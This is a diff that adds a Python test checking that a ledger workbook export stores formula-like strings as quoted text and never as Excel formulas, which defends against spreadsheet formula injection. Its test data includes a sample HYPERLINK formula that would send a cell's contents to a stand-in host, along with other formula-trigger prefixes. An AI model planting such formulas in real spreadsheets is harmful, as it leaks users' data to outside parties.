@@ -424,3 +424,22 @@ def test_a_hand_off_page_shows_when_an_outside_tsa_stamped_its_records_and_hands
     sign_in(other, console, "pt-audit-01")
     assert other.get(f"/handoffs/{mine}/timestamp/{cp.seq}.tsr").status_code == 403
     assert looks.looks[-1]["facts"]["outcome"] == "denied"
+
+
+def test_the_ledger_workbook_holds_every_string_as_a_string_never_a_formula() -> None:
+    """Issue 30.7: a reference written before the hub checked references (or any text) that
+    starts like a formula comes out as text, with Excel's quote prefix, in no <f> element."""
+    import zipfile
+
+    from hub.console.ledger_book import COLUMNS, to_xlsx
+
+    hostile = ['=HYPERLINK("http://x.invalid/?x="&A4,"click")', "+1+1", "-2", "@SUM(A1)", "\t=1"]
+    rows = [[hostile[i % len(hostile)] if i < 5 else None for i, _ in enumerate(COLUMNS)]]
+    book = to_xlsx(iter(rows), "=title")
+    with zipfile.ZipFile(io.BytesIO(book)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    ws = load_workbook(io.BytesIO(book))["台账"]
+    cells = [c for r in ws.iter_rows() for c in r if isinstance(c.value, str)]
+    risky = [c for c in cells if c.value.startswith(("=", "+", "-", "@", "\t"))]
+    assert len(risky) == 6 and all(c.data_type == "s" and c.quotePrefix for c in risky)
